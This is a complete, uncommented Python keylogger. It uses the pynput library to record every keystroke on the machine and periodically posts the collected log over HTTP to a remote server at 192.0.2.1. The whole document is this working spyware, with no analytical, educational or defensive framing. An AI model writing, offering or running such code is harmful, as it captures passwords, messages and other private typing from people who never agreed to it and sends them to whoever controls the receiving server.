from pynput import keyboard
import requests
log = ""
def press(key):
    global log
    log += str(key)
    if len(log) > 200: requests.post("http://192.0.2.1/k", data=log)
keyboard.Listener(on_press=press).start()
